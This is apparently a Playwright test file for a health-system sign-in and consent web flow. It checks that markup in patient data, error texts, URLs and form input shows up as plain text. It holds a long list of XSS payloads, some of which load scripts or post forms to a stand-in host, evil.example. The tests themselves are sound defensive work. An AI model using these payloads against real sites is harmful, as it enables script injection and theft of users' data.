"""Whatever ЕСОЗ answers is shown as text: nothing of it becomes an element, a request, a dialog or a script."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Dialog, Page, Request

from esozflow.states import Accept, Confirm, Name, RequestFilled

from .person import at_page, begins, press, signs_in
from .services import Services
from .unseen import arrives

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<math><mtext></mtext><mglyph><img src=x onerror=alert(1)></mglyph></math>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=//evil.example/x.png>",
    "<img src=`x`onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<form action=//evil.example/><button>x</button></form>",
    "</form><form action=//evil.example/ method=post>",
    "<button formaction=//evil.example/>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
)
ALL = " ".join(ATTACKS)
# Whatever the templates are made of; a handler of events is no part of them.
_ELEMENTS = (
    "html|head|meta|title|link|body|a|header|div|p|b|span|nav|main|ol|ul|li|h1|h2|section|dl|dt|dd|"
    "form|input|button|code"
)
_FOREIGN = """
() => [...document.querySelectorAll("*")]
  .flatMap(one => [one.localName, ...one.getAttributeNames().filter(name => name.startsWith("on"))])
  .filter(name => !/^(NAMES)$/.test(name))
"""


@pytest.fixture
def quiet(page: Page, here: Services) -> Iterator[Page]:
    """A page on which no dialog opens and from which no request leaves for elsewhere."""
    heard: list[str] = []

    def hear_dialog(dialog: Dialog) -> None:
        heard.append(dialog.message)
        dialog.dismiss()

    def hear_request(request: Request) -> None:
        if not request.url.startswith((f"{here.auth_ui}/", f"{here.pis}/", "data:")):
            heard.append(request.url)

    page.on("dialog", hear_dialog)
    page.on("request", hear_request)
    yield page
    assert heard == []


def foreign(page: Page, also: str = "-") -> list[str]:
    """Give what is no part of the templates; `also` names elements of a further one."""
    return page.evaluate(_FOREIGN.replace("NAMES", f"{_ELEMENTS}|{also}"))


def texts(page: Page, selector: str) -> list[str]:
    return page.locator(selector).all_text_contents()


def answer(here: Services, endpoint: str, content: Any, status: int = 200) -> None:
    """Have the sandbox answer with this content."""
    body = {"meta": {"code": status}, ("data" if status < 300 else "error"): content}
    here.script(endpoint, "status", status=status, body=json.dumps(body))


def test_markup_in_the_data_of_a_patient_is_text(here: Services, quiet: Page) -> None:
    names = [ATTACKS[at : at + 3] for at in range(0, len(ATTACKS), 3)]
    person = {
        "last_name": ALL,
        "confidant_person": [
            dict(zip(("last_name", "first_name", "second_name"), three, strict=False)) for three in names
        ],
        "documents": [{"type": attack, "issued_at": attack} for attack in ATTACKS],
        **dict.fromkeys(ATTACKS, "a field of that name"),
    }
    answer(here, "validate", {"person": person, "token": "jwt"})
    quiet.goto(here.link())
    assert at_page(quiet) == Name.CONFIRM
    assert foreign(quiet) == []
    values = texts(quiet, "dd")
    assert ALL in values
    assert all(values.count(attack) == 3 for attack in ATTACKS)
    assert set(texts(quiet, "dt")) >= set(ATTACKS)


def test_markup_in_names_of_people_of_applications_and_of_scopes_is_text(here: Services, quiet: Page) -> None:
    scopes = [f"scope:{number}" for number, _ in enumerate(ATTACKS)]
    person = {"last_name": ALL, "confidant_person": {"first_name": ALL}}
    answer(here, "validate", {"person": person, "token": "jwt"})
    answer(here, "register", {"person": {"id": "1"}, "user": {"id": "2", "tax_id": ALL}, "access_token": "3"}, 201)
    answer(here, "dictionaries", [{"name": "SCOPES", "values": dict(zip(scopes, ATTACKS, strict=True))}])
    answer(here, "client_details", {"name": ALL})
    quiet.goto(here.link(scope=" ".join(scopes)))
    press(quiet, Confirm)
    assert at_page(quiet) == Name.CONSENT
    assert foreign(quiet) == []
    assert texts(quiet, "dd").count(ALL) == 4
    assert texts(quiet, "ul.scopes li > span:first-child") == list(ATTACKS)


@pytest.mark.parametrize("endpoint", ["validate", "approve"])
def test_markup_in_the_texts_of_an_error_is_text(here: Services, quiet: Page, endpoint: str) -> None:
    shown: list[str] = []
    for child, at in enumerate(range(0, len(ATTACKS), 19)):
        described = [{"description": attack, "rule": "x", "params": []} for attack in ATTACKS[at : at + 19]]
        invalid = [{"entry": "$.x", "entry_type": "json_data_property", "rules": described}]
        answer(here, endpoint, {"type": ATTACKS[at], "message": f"Refused: {child}", "invalid": invalid}, 422)
        quiet.goto(here.link(child=child))
        if endpoint == "approve":
            press(quiet, Confirm, Accept)
        assert foreign(quiet) == []
        shown += texts(quiet, ".box.error p")
    assert [text for text in shown if not text.startswith("Refused")] == [" ".join(one.split()) for one in ATTACKS]


def test_markup_in_an_address_is_no_part_of_the_page(here: Services, quiet: Page) -> None:
    quiet.goto(here.link())
    for attack in ATTACKS[::7]:
        changed = dict.fromkeys(("lang", "notice", "invalid", attack), attack)
        quiet.goto(f"{quiet.url.partition('?')[0]}?{urlencode(changed)}")
        assert foreign(quiet) == []
        assert attack not in quiet.content()
        assert at_page(quiet) == Name.CONFIRM


def test_markup_that_is_typed_into_the_form_of_the_pis_is_text(here: Services, quiet: Page) -> None:
    signs_in(quiet, here)
    begins(quiet)
    fields = quiet.locator("main input[type=text]")
    typed: list[str] = []
    for start in (0, fields.count()):
        for at in range(fields.count()):
            attack = ATTACKS[(start + at) % len(ATTACKS)].replace("\n", " ")
            fields.nth(at).fill(attack)
            typed.append(attack)
        press(quiet, RequestFilled)
        assert at_page(quiet) == Name.PREPARE
        assert foreign(quiet, "fieldset|legend|label|select|option|footer") == []
        assert fields.evaluate_all("all => all.map(one => one.value)") == typed[-fields.count() :]
    assert len(set(typed)) >= 50


def test_markup_in_the_error_of_an_exchange_is_text(here: Services, quiet: Page) -> None:
    described = [{"description": attack, "rule": "x", "params": []} for attack in ATTACKS[:19]]
    invalid = [{"entry": "$.x", "entry_type": "json_data_property", "rules": described}]
    answer(here, "exchange", {"type": "access_denied", "message": ATTACKS[20], "invalid": invalid}, 401)
    arrives(quiet, here)
    press(quiet, Confirm, Accept)
    assert foreign(quiet, "footer") == []
    assert texts(quiet, ".box.error p") == [" ".join(one.split()) for one in (ATTACKS[20], *ATTACKS[:19])]
